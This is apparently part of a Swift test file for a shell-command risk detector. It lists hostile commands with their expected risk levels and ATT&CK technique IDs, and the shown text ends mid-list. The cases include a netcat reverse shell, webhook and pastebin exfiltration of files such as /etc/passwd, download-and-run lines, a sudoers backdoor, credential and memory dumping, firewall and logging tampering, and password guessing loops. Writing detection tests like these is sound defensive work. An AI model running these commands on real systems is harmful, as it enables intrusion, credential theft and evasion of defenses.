import ShellAnalysis
import Testing

/// The detection rules added for the attack corpora's misses (firewall holes, history tampering,
/// domain recon, security-software discovery, memory dumpers, hidden streams, admin shares…).
/// Each rule has its plain case, the evasion we thought of (quoting, a variable, a wrapper, an
/// alias, another spelling), and a benign near-miss that must stay quiet.
@Suite struct DetectionRulesTests {
    struct Case: Sendable, CustomStringConvertible {
        var rule: String
        var command: String
        var dialect: ShellDialect = .bash
        var atLeast: RiskLevel = .high
        var technique: String? = nil
        var description: String { "\(rule): \(command)" }
    }

    static let caught: [Case] = [
        // `time` is a bash keyword, but it runs what follows as a wrapper does.
        Case(rule: "shell through time", command: "time /bin/sh", technique: "T1059.004"),
        Case(rule: "shell through time, quoted", command: #"time "/bin/sh""#, technique: "T1059.004"),
        // History tampering.
        Case(rule: "HISTCONTROL ignoreboth", command: "export HISTCONTROL=ignoreboth", technique: "T1562.003"),
        Case(rule: "HISTCONTROL through declare, quoted", command: #"declare -x HISTCONTROL="ignoreboth""#, technique: "T1562.003"),
        // Shell start-up files beyond bash's.
        Case(rule: "~/.shrc appended", command: "echo 'nc 10.0.0.1 4444 -e /bin/sh' >> ~/.shrc", dialect: .sh, technique: "T1546.004"),
        Case(rule: "~/.kshrc through tee and $HOME", command: #"printf 'x\n' | tee -a "$HOME/.kshrc""#, technique: "T1546.004"),
        Case(rule: "BSD master.passwd read", command: "sudo cat /etc/master.passwd", dialect: .sh, technique: "T1003.008"),
        Case(rule: "BSD master.passwd, quoted name", command: "c''at /etc/master.passwd", dialect: .sh, technique: "T1003.008"),
        Case(rule: "macOS rc.common", command: "echo 'python3 /tmp/x.py' | sudo tee -a /etc/rc.common", technique: "T1037.004"),
        // Firewalls.
        Case(rule: "iptables rule deleted", command: "iptables -D INPUT -p tcp --dport 22 -j DROP", dialect: .sh, technique: "T1562.004"),
        Case(rule: "iptables rule deleted, long option, sudo", command: "sudo iptables --delete INPUT 1", dialect: .sh, technique: "T1562.004"),
        Case(rule: "ufw rule deleted", command: "sudo ufw delete 3", dialect: .sh, technique: "T1562.004"),
        Case(rule: "ufw logging off", command: "ufw logging off", dialect: .sh, technique: "T1562.004"),
        Case(rule: "pf disabled", command: "pfctl -d", dialect: .sh, technique: "T1562.004"),
        Case(rule: "pf flushed through sudo", command: "sudo pfctl -F all", dialect: .sh, technique: "T1562.004"),
        Case(rule: "pf service stopped", command: "service pf stop", dialect: .sh, technique: "T1562.004"),
        Case(rule: "ufw rules edited by hand", command: #"echo "-A ufw-user-input -j ACCEPT" >> /etc/ufw/user.rules"#, dialect: .sh, technique: "T1562.004"),
        Case(rule: "ufw rules edited through tee", command: "echo x | sudo tee -a /etc/default/ufw", dialect: .sh, technique: "T1562.004"),
        Case(rule: "New-NetFirewallRule, default action Allow", command: "New-NetFirewallRule -DisplayName x -Direction Inbound -LocalPort 3389 -Protocol TCP", dialect: .powershell, technique: "T1562.004"),
        Case(rule: "New-NetFirewallRule, -Action:Allow", command: "New-NetFirewallRule -DisplayName x -Action:Allow", dialect: .powershell, technique: "T1562.004"),
        Case(rule: "netsh allow rule", command: "netsh advfirewall firewall add rule name=x dir=in action=allow protocol=TCP localport=450", dialect: .cmd, technique: "T1562.004"),
        Case(rule: "netsh rule group switched on, odd case", command: #"NETSH AdvFirewall Firewall Set Rule group="remote desktop" new enable=Yes"#, dialect: .cmd, technique: "T1562.004"),
        Case(rule: "firewall policy in the registry", command: #"reg add "HKLM\SOFTWARE\Policies\Microsoft\WindowsFirewall\DomainProfile" /v EnableFirewall /t REG_DWORD /d 0 /f"#, dialect: .cmd, technique: "T1562.004"),
        Case(rule: "firewall policy through a PowerShell drive", command: #"New-ItemProperty "HKLM:\SOFTWARE\Policies\Microsoft\WindowsFirewall\StandardProfile" -Name EnableFirewall -PropertyType DWORD -Value 0 -Force"#, dialect: .powershell, technique: "T1562.004"),
        // Logging switched off.
        Case(rule: "command-line auditing off", command: #"reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Policies\System\Audit /v ProcessCreationIncludeCmdLine_Enabled /t REG_DWORD /d 0 /f"#, dialect: .cmd, technique: "T1562.003"),
        Case(rule: "event log channel access", command: #"Set-ItemProperty -Path HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\WINEVT\Channels\Microsoft-Windows-TaskScheduler/Operational -Name ChannelAccess -Value x"#, dialect: .powershell, technique: "T1562.002"),
        Case(rule: "IIS request log off", command: #"C:\Windows\System32\inetsrv\appcmd.exe set config "Default Web Site" /section:httplogging /dontLog:true"#, dialect: .cmd, technique: "T1562.002"),
        Case(rule: "AWS Config recorder stopped", command: "aws configservice stop-configuration-recorder --configuration-recorder-name default", dialect: .sh, technique: "T1562.008"),
        // Decoding.
        Case(rule: "hex decoded with xxd", command: "echo 6869 | xxd -r -p", dialect: .sh, atLeast: .medium, technique: "T1140"),
        Case(rule: "hex decoded with xxd's long option", command: "xxd -revert -p payload.hex", dialect: .sh, atLeast: .medium, technique: "T1140"),
        // Security software discovery and tampering.
        Case(rule: "several EDR processes searched for", command: "ps aux | egrep 'falcond|osqueryd|auditbeat'", dialect: .sh, technique: "T1518.001"),
        Case(rule: "several EDR processes through pgrep", command: "pgrep -l 'wazuh-agent|cbagentd'", dialect: .sh, technique: "T1518.001"),
        Case(rule: "EDR killed", command: "pkill -9 falcon-sensor", dialect: .sh, technique: "T1562.001"),
        Case(rule: "EDR killed through sudo killall", command: "sudo killall osqueryd", dialect: .sh, technique: "T1562.001"),
        Case(rule: "antivirus processes searched for in PowerShell", command: #"Get-Process | ?{$_.Description -like "*virus*"}; Get-Process | ?{$_.ProcessName -like "*sysmon*"}"#, dialect: .powershell, technique: "T1518.001"),
        Case(rule: "antivirus processes searched for with tasklist", command: #"tasklist | findstr /i "MsMpEng.exe CSFalconService.exe""#, dialect: .cmd, technique: "T1518.001"),
        Case(rule: "Security Center asked for antivirus products", command: "Get-CimInstance -Namespace root/SecurityCenter2 -ClassName AntiVirusProduct", dialect: .powershell, technique: "T1518.001"),
        Case(rule: "Security Center through wmic", command: #"wmic.exe /Namespace:\\root\SecurityCenter2 Path AntiVirusProduct Get displayName"#, dialect: .cmd, technique: "T1518.001"),
        // Domain recon.
        Case(rule: "domain admins listed", command: #"net group "Domain Admins" /domain"#, dialect: .cmd, technique: "T1069.002"),
        Case(rule: "enterprise admins through net1", command: #"net1 group "enterprise admins" /domain"#, dialect: .cmd, technique: "T1069.002"),
        Case(rule: "domain admins through the AD module", command: #"Get-ADGroupMember -Identity "Domain Admins""#, dialect: .powershell, technique: "T1069.002"),
        Case(rule: "domain trusts", command: "nltest /domain_trusts", dialect: .cmd, technique: "T1482"),
        Case(rule: "domain trusts, other spelling", command: "nltest.exe /trusted_domains", dialect: .cmd, technique: "T1482"),
        Case(rule: "domain trusts through .NET", command: "([System.DirectoryServices.ActiveDirectory.Domain]::GetCurrentDomain()).GetAllTrustRelationships()", dialect: .powershell, technique: "T1482"),
        Case(rule: "AS-REP roastable accounts", command: "Get-ADUser -Filter * -Properties DoesNotRequirePreAuth | Where-Object {$_.DoesNotRequirePreAuth}", dialect: .powershell, technique: "T1558.004"),
        Case(rule: "AS-REP roastable accounts by flag value", command: #"Get-ADUser -LDAPFilter "(userAccountControl:1.2.840.113556.1.4.803:=4194304)""#, dialect: .powershell, technique: "T1558.004"),
        Case(rule: "LAPS passwords", command: "Get-ADComputer web01 -Properties ms-Mcs-AdmPwd", dialect: .powershell, technique: "T1555"),
        Case(rule: "LAPS passwords, new cmdlet", command: "Get-LapsADPassword -Identity web01", dialect: .powershell, technique: "T1555"),
        // Credentials.
        Case(rule: "registry searched for passwords", command: "reg query HKLM /f password /t REG_SZ /s", dialect: .cmd, technique: "T1552.002"),
        Case(rule: "registry searched for passwords, upper case", command: "REG QUERY HKCU /F PASSWD /S", dialect: .cmd, technique: "T1552.002"),
        Case(rule: "PuTTY sessions read", command: #"reg query HKCU\Software\SimonTatham\PuTTY\Sessions /t REG_SZ /s"#, dialect: .cmd, technique: "T1552.002"),
        Case(rule: "files searched for passwords", command: #"Select-String -Path C:\inetpub\*.config -Pattern password"#, dialect: .powershell, technique: "T1552.001"),
        Case(rule: "files searched for passwords, alias", command: "sls -Pattern pwd *.xml", dialect: .powershell, technique: "T1552.001"),
        Case(rule: "Credential Manager listed", command: #"vaultcmd /listcreds:"Windows Credentials" /all"#, dialect: .cmd, technique: "T1555.004"),
        Case(rule: "Credential Manager listed, dash and .exe", command: #"VaultCmd.exe -listcreds:"Web Credentials""#, dialect: .cmd, technique: "T1555.004"),
        Case(rule: "IIS app pool passwords", command: "appcmd list apppool /text:*", dialect: .cmd, technique: "T1552.001"),
        Case(rule: "process memory dumped by rdrleakdiag", command: #"rdrleakdiag.exe /p 832 /o C:\Temp /fullmemdmp /wait 1"#, dialect: .cmd, technique: "T1003.001"),
        Case(rule: "process memory dumped by createdump", command: #"createdump.exe -n -f C:\Temp\d.dmp 1234"#, dialect: .cmd, technique: "T1003.001"),
        Case(rule: "process memory dumped by DumpMinitool, by path", command: #"C:\Tools\DumpMinitool.exe --file x --processId 1 --dumpType Full"#, dialect: .powershell, technique: "T1003.001"),
        Case(rule: "AD database snapshot", command: #"dsdbutil.exe "activate instance ntds" "snapshot" "create" "quit" "quit""#, dialect: .cmd, technique: "T1003.003"),
        // Persistence.
        Case(rule: "shim database installed", command: #"sdbinst.exe C:\x\shim.sdb"#, dialect: .cmd, technique: "T1546.011"),
        Case(rule: "Excel start-up folder", command: #"Copy-Item C:\x\a.xlam "$env:APPDATA\Microsoft\Excel\XLSTART\a.xlam""#, dialect: .powershell, technique: "T1137.006"),
        Case(rule: "Startup folder through %APPDATA% (a Windows profile path)", command: #"copy evil.lnk "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\evil.lnk""#, dialect: .cmd, technique: "T1547.001"),
        // Hiding and moving.
        Case(rule: "output into an alternate data stream", command: #"echo payload > C:\Users\Public\file.txt:hidden.bat"#, dialect: .cmd, technique: "T1564.004"),
        Case(rule: "input from an alternate data stream", command: #"cmd.exe - < C:\Users\Public\file.txt:payload.bat"#, dialect: .cmd, technique: "T1564.004"),
        Case(rule: "timestomp in PowerShell", command: #"Get-ChildItem x.txt | % { $_.CreationTime = "01/01/1970 00:00:00" }"#, dialect: .powershell, technique: "T1070.006"),
        Case(rule: "timestomp in PowerShell, no spaces, UTC", command: "$f.LastWriteTimeUtc=$d", dialect: .powershell, technique: "T1070.006"),
        Case(rule: "timestomp on macOS", command: "SetFile -m 01/01/1970 /tmp/x", dialect: .sh, technique: "T1070.006"),
        Case(rule: "admin share listed", command: #"dir \\10.0.0.5\C$"#, dialect: .cmd, technique: "T1021.002"),
        Case(rule: "program copied to ADMIN$", command: #"copy x.exe \\fileserver\ADMIN$\x.exe"#, dialect: .cmd, technique: "T1021.002"),
        Case(rule: "output redirected to ADMIN$", command: #"hostname 1> \\127.0.0.1\ADMIN$\out.txt 2>&1"#, dialect: .cmd, technique: "T1021.002"),
        // PowerShell keeps a `$` that starts no variable in a bare word: unquoted shares are shares.
        Case(rule: "admin share mapped, unquoted, in PowerShell", command: #"New-PSDrive -Name X -PSProvider FileSystem -Root \\Target\C$"#, dialect: .powershell, technique: "T1021.002"),
        Case(rule: "program copied to ADMIN$, unquoted, in PowerShell", command: #"Copy-Item x.exe \\fs\ADMIN$\x.exe"#, dialect: .powershell, technique: "T1021.002"),
        Case(rule: "cloud attack tool", command: "./stratus detonate aws.defense-evasion.cloudtrail-stop", dialect: .sh, technique: "T1578"),
        // Containers given the host.
        Case(rule: "host root mounted into a container", command: "docker run -v /:/mnt --rm -it alpine chroot /mnt sh", dialect: .sh, technique: "T1611"),
        Case(rule: "host root mounted with --mount, through sudo", command: "sudo ctr run --rm --mount type=bind,src=/,dst=/,options=rbind -t docker.io/library/alpine:latest x", dialect: .sh, technique: "T1611"),
        Case(rule: "engine socket mounted, --volume=", command: "podman run --volume=/var/run/docker.sock:/var/run/docker.sock img", dialect: .sh, technique: "T1611"),
        // Shells started by programs that run one when given no command.
        Case(rule: "chroot with no command", command: "chroot /", dialect: .sh, technique: "T1059.004"),
        Case(rule: "systemd-run --shell", command: "systemd-run --shell", dialect: .sh, technique: "T1059.004"),
        Case(rule: "capsh --", command: "capsh --", dialect: .sh, technique: "T1059.004"),
        Case(rule: "capsh switching to root", command: "capsh --gid=0 --uid=0 --", dialect: .sh, technique: "T1548"),
        // macOS.
        Case(rule: "system log erased", command: "sudo log erase --all", dialect: .sh, technique: "T1070.002"),
        Case(rule: "hidden macOS account", command: "dscl . -create /Users/APT IsHidden 1", dialect: .sh, technique: "T1564.002"),
        Case(rule: "AppleScript shell as root", command: #"osascript -e 'do shell script "id" with administrator privileges'"#, dialect: .sh, technique: "T1548.004"),
        Case(rule: "AppleScript shell command is read", command: #"osascript -e 'do shell script "rm /var/log/system.log"'"#, dialect: .sh, technique: "T1070.002"),
        Case(rule: "AppleScript fake password dialog", command: #"osascript -e 'display dialog "Software Update needs your password" default answer "" with hidden answer'"#, dialect: .sh, technique: "T1056.002"),
        Case(rule: "PowerShell fake password prompt", command: #"$cred = $host.UI.PromptForCredential('Windows Security Update', '', [Environment]::UserName, [Environment]::UserDomainName)"#, dialect: .powershell, technique: "T1056.002"),
        // Exfiltration to web services.
        Case(rule: "file posted to a Discord webhook", command: #"curl -s -F "file=@/tmp/loot.txt" "https://discord.com/api/webhooks/1/x""#, dialect: .sh, technique: "T1567.004"),
        Case(rule: "file posted to a Slack webhook", command: "curl -T /etc/hosts https://hooks.slack.com/services/T/B/X", dialect: .sh, technique: "T1567.004"),
        Case(rule: "paste site through wget", command: "wget --post-file=/etc/passwd https://pastebin.com/api/api_post.php", dialect: .sh, technique: "T1567.004"),
        Case(rule: "webhook through Invoke-RestMethod", command: #"Invoke-RestMethod -Uri "https://discord.com/api/webhooks/1/x" -Method Post -Body $b"#, dialect: .powershell, technique: "T1567.004"),
        Case(rule: "webhook through the irm alias", command: "irm https://webhook.site/abc -Method Post -Body (Get-Content C:\\x.txt)", dialect: .powershell, technique: "T1567.004"),
        // Programs dressed up as harmless files.
        Case(rule: "script named like a picture", command: "sh /tmp/image.png", dialect: .sh, technique: "T1036.008"),
        // Persistence, keylogging and remote execution through Windows and shell features.
        Case(rule: "keylogging DEBUG trap", command: #"trap 'echo "$(date) $BASH_COMMAND" >> /tmp/.k.log' DEBUG"#, technique: "T1056.001"),
        Case(rule: "keylogging DEBUG trap, double quotes", command: #"trap "logger -t cmd \"\$BASH_COMMAND\"" DEBUG"#, technique: "T1056.001"),
        Case(rule: "service-account token read in a pod", command: "kubectl exec pod -- cat /run/secrets/kubernetes.io/serviceaccount/token", dialect: .sh, technique: "T1552.007"),
        Case(rule: "service-account token, name split by quotes", command: #"cat "/run/secrets/kubernetes.io/serviceaccount/to"'ken'"#, dialect: .sh, technique: "T1552.007"),
        Case(rule: "WMI event subscription", command: #"New-CimInstance -Namespace root/subscription -ClassName __EventFilter -Property @{Name='x'}; New-CimInstance -Namespace root/subscription -ClassName CommandLineEventConsumer -Property @{Name='x'}"#, dialect: .powershell, technique: "T1546.003"),
        Case(rule: "MOF file compiled into WMI", command: #"c:\windows\system32\wbem\mofcomp.exe C:\x\evil.mof"#, dialect: .cmd, technique: "T1546.003"),
        Case(rule: "DCOM MMC20 command", command: #"[activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.application","10.0.0.5")).Document.ActiveView.ExecuteShellCommand("cmd.exe", $null, "/c calc", "7")"#, dialect: .powershell, technique: "T1021.003"),
        Case(rule: "COM object by class id", command: #"$o = [activator]::CreateInstance([type]::GetTypeFromCLSID("9BA05972-F6A8-11CF-A442-00A0C90A8F39")); $o.Item().Document.Application.ShellExecute("cmd.exe","/c calc","C:\windows\system32",$null,0)"#, dialect: .powershell, technique: "T1559.001"),
        Case(rule: "shortcut in the Startup folder", command: #"$s = New-Object -ComObject WScript.Shell; $l = $s.CreateShortcut("$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\x.lnk"); $l.TargetPath = "cmd.exe"; $l.Save()"#, dialect: .powershell, technique: "T1547.009"),
        Case(rule: "Excel XLL add-in", command: #"$x = New-Object -ComObject Excel.Application; $x.RegisterXLL("C:\x\a.xll")"#, dialect: .powershell, technique: "T1137.006"),
        Case(rule: "old Windows scheduler", command: "at 13:20 /interactive cmd", dialect: .cmd, technique: "T1053.002"),
        Case(rule: "old Windows scheduler, .exe", command: #"at.exe 23:00 "C:\x\run.bat""#, dialect: .cmd, technique: "T1053.002"),
        // More logging, hiding and proxy execution.
        Case(rule: "cloud audit log deleted", command: "gcloud logging logs delete projects/p/logs/cloudaudit.googleapis.com%2Factivity --quiet", dialect: .sh, technique: "T1562.008"),
        Case(rule: "IIS log off through PowerShell", command: #"Set-WebConfigurationProperty -PSPath "IIS:\Sites\Default Web Site\" -filter "system.webServer/httpLogging" -name dontLog -value $true"#, dialect: .powershell, technique: "T1562.002"),
        Case(rule: "event log killer by path", command: #""C:\x\Phant0m.exe""#, dialect: .cmd, technique: "T1562.002"),
        Case(rule: "XSL script through msxsl", command: #""C:\x\msxsl.exe" a.xml b.xsl"#, dialect: .cmd, technique: "T1220"),
        Case(rule: "raw disk read", command: #"$h = New-Object IO.FileStream "\\.\C:", 'Open', 'Read', 'ReadWrite'"#, dialect: .powershell, technique: "T1006"),
        Case(rule: "raw disk read, physical drive", command: #"$b = [IO.File]::ReadAllBytes('\\.\PhysicalDrive0')"#, dialect: .powershell, technique: "T1006"),
        Case(rule: "script: moniker with a remote script", command: #"cscript.exe /b C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs localhost "script:https://example.com/x.sct""#, dialect: .cmd, technique: "T1216.001"),
        Case(rule: "file hidden through its attributes", command: #"$f = Get-Item $env:temp\x.txt -Force; $f.Attributes = 'Hidden'"#, dialect: .powershell, atLeast: .medium, technique: "T1564.001"),
        Case(rule: "clock set with date's short form", command: "date 010100001971", dialect: .sh, atLeast: .medium, technique: "T1070.006"),
        // Accounts deleted elsewhere than with userdel or net user (T1531 already covers those).
        Case(rule: "macOS account deleted", command: "dscl . -delete /Users/bob", dialect: .sh, technique: "T1531"),
        Case(rule: "macOS account deleted through sudo sysadminctl", command: "sudo sysadminctl -deleteUser bob", dialect: .sh, technique: "T1531"),
        Case(rule: "cloud directory account deleted", command: "az ad user delete --id bob@example.com", dialect: .sh, technique: "T1531"),
        Case(rule: "Entra ID account deleted", command: "Remove-AzureADUser -ObjectId bob@example.com", dialect: .powershell, technique: "T1531"),
        // macOS keychains copied; curl's bundled output flags.
        Case(rule: "keychain folder archived", command: #"ditto -c -k --keepParent "$HOME/Library/Keychains" /tmp/k.zip"#, dialect: .sh, technique: "T1555.001"),
        Case(rule: "system keychain copied", command: "cp /Library/Keychains/System.keychain /tmp/", dialect: .sh, technique: "T1555.001"),
        Case(rule: "download saved with -sO, then run", command: "curl -sO https://example.com/atomic.sh; bash atomic.sh", dialect: .sh, atLeast: .critical, technique: "T1105"),
        Case(rule: "download saved with -fsSLo FILE, then run", command: "curl -fsSLo /tmp/i.sh https://example.com/i.sh; sh /tmp/i.sh", dialect: .sh, atLeast: .critical, technique: "T1105"),
        // Programs that run a local command or a system program for you.
        Case(rule: "sftp ProxyCommand starting a shell", command: "sftp -o ProxyCommand='bash -i' x", dialect: .sh, technique: "T1059.004"),
        Case(rule: "scp LocalCommand, joined spelling", command: #"scp -oLocalCommand="sh -i" -oPermitLocalCommand=yes a b:"#, dialect: .sh, technique: "T1059.004"),
        Case(rule: "ssh ProxyCommand starting a shell, through sudo", command: "sudo ssh -o ProxyCommand=';sh 0<&2 1>&2' x", dialect: .sh, technique: "T1059.004"),
        Case(rule: "run-parts on a system program folder", command: "run-parts --new-session --regex '^sh$' /bin", dialect: .sh, technique: "T1059.004"),
        Case(rule: "run-parts on /usr/bin/", command: "sudo run-parts --regex '^bash$' /usr/bin/", dialect: .sh, technique: "T1059.004"),
        Case(rule: "git hook that starts a shell", command: "echo 'exec /bin/sh 0<&2 1>&2' >.git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; git commit --allow-empty -m x", dialect: .sh, technique: "T1059.004"),
        Case(rule: "script with its recording thrown away", command: "script -q /dev/null", dialect: .sh, technique: "T1059.004"),
        Case(rule: "double extension", command: "echo 'id' > /tmp/report.pdf.sh; chmod +x /tmp/report.pdf.sh; /tmp/report.pdf.sh", dialect: .sh, technique: "T1036.007"),
        // Enumerating a whole domain is medium: it asks the domain controller about every account,
        // computer or group, not the machine being supported (one object stays low).
        Case(rule: "domain computers listed", command: #"net group "Domain Computers" /domain"#, dialect: .cmd, atLeast: .medium, technique: "T1069.002"),
        Case(rule: "domain users listed through net1, upper case", command: "NET1 USER /DOMAIN", dialect: .cmd, atLeast: .medium, technique: "T1087.002"),
        Case(rule: "machines of a domain listed", command: "net view /domain:corp", dialect: .cmd, atLeast: .medium, technique: "T1018"),
        Case(rule: "domain controllers listed", command: "nltest.exe /dclist:corp.example.com", dialect: .cmd, atLeast: .medium, technique: "T1018"),
        Case(rule: "every computer in the domain", command: "Get-ADComputer -Filter *", dialect: .powershell, atLeast: .medium, technique: "T1018"),
        Case(rule: "every group, LDAP filter, lower case", command: #"get-adgroup -ldapfilter "(objectclass=group)""#, dialect: .powershell, atLeast: .medium, technique: "T1069.002"),
        Case(rule: "every user, abbreviated parameter", command: "Get-ADUser -Filt * -Properties *", dialect: .powershell, atLeast: .medium, technique: "T1087.002"),
        Case(rule: "LDAP searched through adsisearcher", command: #"([adsisearcher]"objectcategory=computer").FindAll()"#, dialect: .powershell, atLeast: .medium, technique: "T1087.002"),
        Case(rule: "LDAP searched through a DirectorySearcher", command: #"$s = New-Object System.DirectoryServices.DirectorySearcher("(objectCategory=User)"); $s.FindAll()"#, dialect: .powershell, atLeast: .medium, technique: "T1087.002"),
        Case(rule: "domain controllers looked up in DNS", command: "nslookup -querytype=SRV _ldap._tcp.dc._msdcs.%USERDNSDOMAIN%", dialect: .cmd, atLeast: .medium, technique: "T1018"),
        // Decoding in PowerShell is medium, as `base64 -d` is.
        Case(rule: "base64 decoded in PowerShell", command: #"[System.Convert]::FromBase64String("aGVsbG8=")"#, dialect: .powershell, atLeast: .medium, technique: "T1140"),
        Case(rule: "base64 decoded from a variable", command: #"$e = "aGk="; $b = [Convert]::FromBase64String($e)"#, dialect: .powershell, atLeast: .medium, technique: "T1140"),
        // A loop probing an address built from its variable is a network sweep.
        Case(rule: "ping sweep", command: #"for ip in $(seq 1 254); do ping -c 1 192.168.1.$ip; done"#, dialect: .sh, atLeast: .medium, technique: "T1018"),
        Case(rule: "ping sweep through sudo, braced and quoted", command: #"for i in {1..254}; do sudo ping -c1 "10.0.0.${i}" && echo up; done"#, atLeast: .medium, technique: "T1018"),
        Case(rule: "port sweep in an arithmetic loop", command: "for ((i=1; i<255; i++)); do nc -zv -w1 10.0.0.$i 22; done", atLeast: .medium, technique: "T1046"),
        Case(rule: "cmd ping sweep", command: "for /l %i in (1,1,254) do ping -n 1 -w 100 192.168.1.%i", dialect: .cmd, atLeast: .medium, technique: "T1018"),
        Case(rule: "cmd sweep, @ and .exe", command: "for /L %a in (1,1,20) do @PING.EXE -n 1 10.1.1.%a", dialect: .cmd, atLeast: .medium, technique: "T1018"),
        // Data hidden in a host name that is looked up.
        Case(rule: "encoded output in a DNS name", command: #"dig @8.8.8.8 -p 53 $(echo "secret" | base64).example.com"#, dialect: .sh, technique: "T1048.003"),
        Case(rule: "encoded output in a DNS name, backquotes and nslookup", command: "nslookup `id | xxd -p -c 30`.x.example.net", dialect: .sh, technique: "T1048.003"),
        Case(rule: "a command's output in a pinged name, quoted", command: #"ping -c 1 "$(whoami).example.net""#, dialect: .sh, atLeast: .medium, technique: "T1048.003"),
        // Text handed to another computer's finger or whois service.
        Case(rule: "finger to a remote host", command: "finger secret@example.net", dialect: .sh, atLeast: .medium, technique: "T1048"),
        Case(rule: "finger by path", command: "/usr/bin/finger x@192.0.2.7", dialect: .sh, atLeast: .medium, technique: "T1048"),
        Case(rule: "whois to another port", command: "whois -h example.net -p 4444 hello", dialect: .sh, atLeast: .medium, technique: "T1048"),
        Case(rule: "whois to another port, long options", command: "whois --host=example.net --port=4444 hello", dialect: .sh, atLeast: .medium, technique: "T1048"),
        // Programs whose job is not writing files, made to write one: a file change (medium), and
        // the path rules apply to the file written.
        Case(rule: "iconv writing a file", command: "echo DATA | iconv -f 8859_1 -t 8859_1 -o /tmp/out", dialect: .sh, atLeast: .medium, technique: "T1565.001"),
        Case(rule: "sort writing a file, joined option", command: "echo DATA | sort -m --output=/tmp/out", dialect: .sh, atLeast: .medium, technique: "T1565.001"),
        Case(rule: "sort writing a cron job", command: "echo '* * * * * root /tmp/x' | sort -o /etc/cron.d/job", dialect: .sh, technique: "T1053.003"),
        Case(rule: "find writing a file", command: "find / -fprintf /tmp/out DATA -quit", dialect: .sh, atLeast: .medium, technique: "T1565.001"),
        Case(rule: "dmidecode writing a file", command: "dmidecode --no-sysfs -d x.dmi --dump-bin /tmp/out", dialect: .sh, atLeast: .medium, technique: "T1565.001"),
        Case(rule: "screen logging to a file", command: "screen -L -Logfile /tmp/out echo DATA", dialect: .sh, atLeast: .medium, technique: "T1565.001"),
        Case(rule: "awk printing to a file", command: #"gawk 'BEGIN { print "DATA" > "/tmp/out" }'"#, dialect: .sh, atLeast: .medium),
        Case(rule: "awk appending to sudoers, through sudo", command: #"sudo awk 'BEGIN { printf "x ALL=(ALL) NOPASSWD:ALL\n" >> "/etc/sudoers" }'"#, dialect: .sh, technique: "T1548.003"),
        Case(rule: "sed's s///w flag", command: "sed -n '1s/.*/DATA/w /tmp/out' /etc/hosts", dialect: .sh, atLeast: .medium, technique: "T1565.001"),
        Case(rule: "sed's w command, through -e", command: "sed -n -e '$w /tmp/out' notes.txt", dialect: .sh, atLeast: .medium, technique: "T1565.001"),
        Case(rule: "git apply outside the repository", command: "git apply --unsafe-paths --directory / x.patch", dialect: .sh, atLeast: .medium, technique: "T1565.001"),
        Case(rule: "TeX writing a file", command: #"pdflatex '\documentclass{article}\newwrite\t\begin{document}\immediate\openout\t=out.tex\immediate\write\t{DATA}\immediate\closeout\t\end{document}'"#, dialect: .sh, atLeast: .medium, technique: "T1565.001"),
        // Programs that run code or reach other sessions through a flag.
        Case(rule: "rpm evaluating Lua", command: #"rpm --eval '%{lua:os.execute("id")}'"#, dialect: .sh, atLeast: .medium, technique: "T1059"),
        Case(rule: "rpm running shell through a macro, joined option", command: "sudo rpm --eval='%(id)'", dialect: .sh, atLeast: .medium, technique: "T1059"),
        Case(rule: "ssh-keygen loading a library", command: "ssh-keygen -D ./lib.so", dialect: .sh, atLeast: .medium, technique: "T1129"),
        Case(rule: "tmux on another socket", command: "tmux -S /tmp/other.sock attach", dialect: .sh, atLeast: .medium, technique: "T1563"),
        Case(rule: "bundle's Ruby prompt", command: "bundle console", dialect: .sh, atLeast: .medium, technique: "T1059"),
        Case(rule: "Start-Process on a program known only at run time", command: #"Start-Process -FilePath "$dir\tools\x.exe" -ArgumentList "a.ahk""#, dialect: .powershell, atLeast: .medium),
        // Forced authentication, .NET profilers, Gatekeeper.
        Case(rule: "rpcping with NTLM", command: "rpcping -s 10.0.0.35 -e 9997 /a connect /u NTLM", dialect: .cmd, technique: "T1187"),
        Case(rule: "rpcping with NTLM, lower case and .exe", command: "rpcping.exe -s 127.0.0.1 -e 1234 -a privacy -u ntlm", dialect: .cmd, technique: "T1187"),
        Case(rule: ".NET profiler set in PowerShell", command: #"$env:COR_ENABLE_PROFILING = 1; $env:COR_PROFILER_PATH = "C:\x\p.dll"; notepad"#, dialect: .powershell, technique: "T1574.012"),
        Case(rule: ".NET profiler set in the registry", command: #"reg add HKCU\Environment /v COR_PROFILER_PATH /t REG_SZ /d C:\x\p.dll /f"#, dialect: .cmd, technique: "T1574.012"),
        Case(rule: "quarantine mark removed", command: "xattr -d com.apple.quarantine myapp.app", dialect: .sh, technique: "T1553.001"),
        Case(rule: "quarantine mark removed recursively through sudo", command: "sudo xattr -dr com.apple.quarantine /Applications/x.app", dialect: .sh, technique: "T1553.001"),
        // Passwords tried one after another from a loop.
        Case(rule: "password guessing with sshpass", command: #"for pw in $(cat words.txt); do sshpass -p "$pw" ssh bob@10.0.0.5 true && echo $pw; done"#, dialect: .sh, technique: "T1110"),
        Case(rule: "password guessing, user:password lines cut apart", command: "for up in $(cat creds.txt); do sshpass -p `echo $up | cut -d: -f2` ssh `echo $up | cut -d: -f1`@localhost; done", dialect: .sh, technique: "T1110"),
        Case(rule: "password guessing with net use", command: #"@FOR /F "delims=" %p in (passwords.txt) DO @net use \\dc01\IPC$ /user:"CORP\bob" "%p" 1>NUL 2>&1 && @echo %p"#, dialect: .cmd, technique: "T1110"),
        // Mail, browser data, web roots, installer policy.
        Case(rule: "a mailbox emptied", command: "echo 0> /var/spool/mail/root", dialect: .sh, atLeast: .medium, technique: "T1070.008"),
        Case(rule: "Apple Mail changed", command: #"echo x > "$HOME/Library/Mail/V10/notes.txt""#, dialect: .sh, atLeast: .medium, technique: "T1070.008"),
        Case(rule: "Edge history read", command: #"Get-Content -Path "$Env:LOCALAPPDATA\Microsoft\Edge\User Data\Default\History""#, dialect: .powershell, atLeast: .medium, technique: "T1217"),
        Case(rule: "Firefox history copied", command: "cp ~/.mozilla/firefox/abc.default/places.sqlite /tmp/", dialect: .sh, atLeast: .medium, technique: "T1217"),
        Case(rule: "bookmarks searched for across profiles", command: #"where /R C:\Users\ Bookmarks"#, dialect: .cmd, atLeast: .medium, technique: "T1217"),
